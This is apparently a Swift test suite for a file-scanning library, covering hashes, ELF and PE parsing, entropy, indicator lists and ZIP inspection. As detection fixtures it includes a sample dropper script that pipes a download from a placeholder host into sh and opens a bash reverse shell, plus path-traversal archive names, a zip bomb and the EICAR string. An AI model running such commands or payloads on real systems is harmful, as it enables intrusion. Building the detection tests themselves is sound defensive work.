import Foundation
import Testing
@testable import FileInspection

/// Files built by the test, scanned for real: digests against known values, types, headers,
/// entropy, strings, indicator matches, ZIP listings, and the hostile cases.
@Suite("File scanner")
struct FileScannerTests {
    static let eicar = #"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"#

    @Test("digests of known content match the published values")
    func digests() throws {
        let dir = try TempDir()
        let path = try dir.write("abc.txt", Data("abc".utf8))
        let report = try FileScanner().scan(path: path)
        #expect(report.digests.md5 == "900150983cd24fb0d6963f7d28e17f72")
        #expect(report.digests.sha1 == "a9993e364706816aba3e25717850c26c9cd0d89d")
        #expect(report.digests.sha256 == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad")
        #expect(report.size == 3)
        #expect(report.type == .text)
        #expect(report.verdict == .clean)
        #expect(report.reasons.isEmpty)
        // Empty files have the digests of nothing.
        let empty = try FileScanner().scan(path: try dir.write("empty", Data()))
        #expect(empty.digests.sha256 == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
        #expect(empty.type == .empty)
        #expect(empty.entropy.blocks == 0)
    }

    @Test("a file larger than several chunks hashes as one stream")
    func chunked() throws {
        let dir = try TempDir()
        var bytes = [UInt8](repeating: 0, count: 3 * 1024 * 1024 + 12345)
        var generator = SplitMix(seed: 7)
        for index in bytes.indices { bytes[index] = UInt8(truncatingIfNeeded: generator.next()) }
        let path = try dir.write("random.bin", Data(bytes))
        var options = FileScanner.Options()
        options.chunkSize = 64 * 1024
        let report = try FileScanner(options: options).scan(path: path)
        var whole = ContentHasher()
        bytes.withUnsafeBytes { whole.update($0) }
        #expect(report.digests.sha256 == whole.finalize())
        #expect(report.size == UInt64(bytes.count))
        #expect(report.type == .data)
        #expect(report.entropy.whole > 7.99)
        #expect(report.entropy.minimum > 7.9)
        #expect(report.entropy.blocks == 49)  // 48 full blocks of 64 KiB and a short one
        #expect(report.entropy.series.count <= EntropyMeter.seriesLength)
        #expect(report.entropy.highBlocks == 49)
    }

    @Test("an ELF executable: header facts, and high entropy makes it look packed")
    func elf() throws {
        let dir = try TempDir()
        var elf = Self.elfHeader(interpreter: "/lib64/ld-linux-x86-64.so.2", writableExecutable: true)
        var generator = SplitMix(seed: 3)
        elf += (0..<200_000).map { _ in UInt8(truncatingIfNeeded: generator.next()) }
        let report = try FileScanner().scan(path: try dir.write("tool", Data(elf)))
        #expect(report.type == .elf)
        let header = try #require(report.elf)
        #expect(header.bits == 64)
        #expect(header.machine == "x86-64")
        #expect(header.type == "DYN")
        #expect(header.entryPoint == 0x1040)
        #expect(header.interpreter == "/lib64/ld-linux-x86-64.so.2")
        #expect(!header.isStatic)
        #expect(header.writableExecutableSegment)
        let codes = Set(report.reasons.map(\.code))
        #expect(codes == ["packed", "writable-executable"])
        #expect(report.verdict == .suspicious)
        // Truncated or hostile headers parse to nil or partial facts, never trap.
        for cut in [0, 4, 20, 51, 52, 63, 64, 100] {
            _ = ELFHeader.parse(Array(elf.prefix(cut)))
        }
        var hostile = Self.elfHeader(interpreter: nil, writableExecutable: false)
        hostile.replaceSubrange(32..<40, with: [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f])
        #expect(ELFHeader.parse(hostile)?.interpreter == nil)
    }

    @Test("a PE executable: machine, sections, writable+executable section, entry outside sections")
    func pe() throws {
        let dir = try TempDir()
        let report = try FileScanner().scan(path: try dir.write("setup.exe", Data(Self.peFile())))
        #expect(report.type == .pe)
        let header = try #require(report.pe)
        #expect(header.machine == "x86-64")
        #expect(header.format == "PE32+")
        #expect(header.subsystem == "Windows console")
        #expect(header.sections.map(\.name) == [".text", "UPX1"])
        #expect(header.writableExecutableSection)
        #expect(header.entryOutsideSections)
        #expect(Set(report.reasons.map(\.code)).isSuperset(of: ["writable-executable", "entry-outside-sections"]))
        #expect(PEHeader.parse(Array(Self.peFile().prefix(70))) == nil)
    }

    @Test("suspicious strings, URLs, domains and addresses; indicator lists match hashes, addresses and domains")
    func stringsAndIndicators() throws {
        let dir = try TempDir()
        let script = "#!/bin/sh\ncurl -s http://update.evil-cdn.example/x.sh | sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\necho 10.0.0.300 is no address\n"
        let path = try dir.write("dropper.sh", Data(script.utf8))
        let plain = try FileScanner().scan(path: path)
        #expect(plain.type == .script)
        #expect(plain.strings.urls == ["http://update.evil-cdn.example/x.sh"])
        #expect(plain.strings.domains == ["update.evil-cdn.example"])
        #expect(plain.strings.ipv4 == ["203.0.113.9"])
        #expect(Set(plain.strings.findings.map(\.category)) == ["download and run", "reverse shell"])
        #expect(plain.verdict == .suspicious)
        var indicators = FileIndicators()
        indicators.add(list: "bad_hosts", entries: ["evil-cdn.example", "198.51.100.0/24", "not an entry!"])
        indicators.add(list: "bad_ips", entries: ["203.0.113.9"])
        indicators.add(list: "file_hashes", entries: [plain.digests.sha1.uppercased()])
        #expect(indicators.ignored.map(\.entry) == ["not an entry!"])
        let matched = try FileScanner(indicators: indicators).scan(path: path)
        let reasons = Dictionary(grouping: matched.reasons, by: \.code)
        #expect(reasons["hash-indicator"]?.first?.detail.contains("file_hashes") == true)
        #expect(reasons["address-indicator"]?.first?.detail.contains("bad_ips") == true)
        #expect(reasons["domain-indicator"]?.first?.detail.contains("bad_hosts") == true)
        #expect(matched.verdict == .malicious)
        #expect(indicators.list(forAddress: "198.51.100.77") == "bad_hosts")
        #expect(indicators.list(forDomain: "example") == nil)
    }

    @Test("EICAR is recognised by its hash on an indicator list")
    func eicar() throws {
        let dir = try TempDir()
        let path = try dir.write("eicar.com", Data(Self.eicar.utf8))
        let digests = try FileScanner().scan(path: path).digests
        #expect(digests.sha256 == "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")
        #expect(digests.md5 == "44d88612fea8a8f36de82e1278abb02f")
        var indicators = FileIndicators()
        indicators.add(list: "file_hashes", entries: [digests.sha256])
        #expect(try FileScanner(indicators: indicators).scan(path: path).verdict == .malicious)
    }

    @Test("a ZIP is listed, an APK recognised, and zip bombs and traversal names called out")
    func zip() throws {
        let dir = try TempDir()
        let plain = try FileScanner().scan(path: try dir.write("a.zip", Data(ZipBuilder.make([("readme.txt", 100, 60), ("bin/tool.exe", 5000, 3000)]))))
        #expect(plain.type == .zip)
        let listing = try #require(plain.zip)
        #expect(listing.entries.map(\.name) == ["readme.txt", "bin/tool.exe"])
        #expect(listing.declaredEntries == 2)
        #expect(listing.executableNames == ["bin/tool.exe"])
        #expect(plain.verdict == .clean)

        let apk = try FileScanner().scan(path: try dir.write("app.apk", Data(ZipBuilder.make([("AndroidManifest.xml", 900, 400), ("classes.dex", 9000, 4000)]))))
        #expect(apk.type == .apk)
        #expect(apk.type.isExecutable)

        let bomb = try FileScanner().scan(path: try dir.write("bomb.zip", Data(ZipBuilder.make([("big", 6 << 30, 6 << 20)]))))
        #expect(bomb.verdict == .malicious)
        #expect(bomb.reasons.map(\.code).contains("zip-bomb"))

        let overlap = try FileScanner().scan(path: try dir.write("overlap.zip", Data(ZipBuilder.make([("a", 10, 10), ("b", 10, 10)], sameLocalOffset: true))))
        #expect(overlap.zip?.overlappingEntries == 1)
        #expect(overlap.verdict == .malicious)

        let traversal = try FileScanner().scan(path: try dir.write("slip.zip", Data(ZipBuilder.make([("../../etc/cron.d/x", 10, 10), ("/etc/passwd", 10, 10), ("C:\\Windows\\x.dll", 10, 10), ("ok/..name", 10, 10)]))))
        #expect(traversal.zip?.traversalNames == ["../../etc/cron.d/x", "/etc/passwd", "C:\\Windows\\x.dll"])
        #expect(traversal.reasons.map(\.code).contains("archive-traversal"))

        // A damaged archive: the end record points past the file; listed as a problem, not a crash.
        var damaged = ZipBuilder.make([("x", 10, 10)])
        damaged.replaceSubrange((damaged.count - 6)..<(damaged.count - 2), with: [0xff, 0xff, 0xff, 0x7f])
        let broken = try FileScanner().scan(path: try dir.write("broken.zip", Data(damaged)))
        #expect(broken.zip?.problem != nil)
        #expect(broken.reasons.map(\.code).contains("archive-damaged"))
    }

    @Test("FIFOs, devices, directories, missing files and link loops are refused with a reason, without blocking")
    func refusals() throws {
        let dir = try TempDir()
        let fifo = dir.path + "/pipe"
        #expect(mkfifo(fifo, 0o600) == 0)
        for (path, words) in [(fifo, "FIFO"), ("/dev/null", "character device"), (dir.path, "directory"), (dir.path + "/missing", "no such file")] {
            #expect {
                _ = try FileScanner().scan(path: path)
            } throws: { error in
                "\(error)".contains(words) && "\(error)".contains(path)
            }
        }
        #expect(symlink(dir.path + "/loop-b", dir.path + "/loop-a") == 0)
        #expect(symlink(dir.path + "/loop-a", dir.path + "/loop-b") == 0)
        #expect {
            _ = try FileScanner().scan(path: dir.path + "/loop-a")
        } throws: { "\($0)".contains("link loop") }
    }

    @Test("the file type comes from magic bytes, never the name")
    func types() {
        #expect(FileType.detect(Array("%PDF-1.7\n".utf8)) == .pdf)
        #expect(FileType.detect([0x1f, 0x8b, 8, 0]) == .gzip)
        #expect(FileType.detect([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) == .javaClass)
        #expect(FileType.detect([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]) == .machO)
        #expect(FileType.detect(Array("héllo wörld\n".utf8)) == .text)
        #expect(FileType.detect(Array("héllo".utf8).dropLast()) == .text)
        #expect(FileType.detect([0x41, 0, 0x42]) == .data)
        var tar = [UInt8](repeating: 0, count: 512)
        tar.replaceSubrange(257..<262, with: Array("ustar".utf8))
        tar[0] = 0x61
        #expect(FileType.detect(tar) == .tar)
    }
}
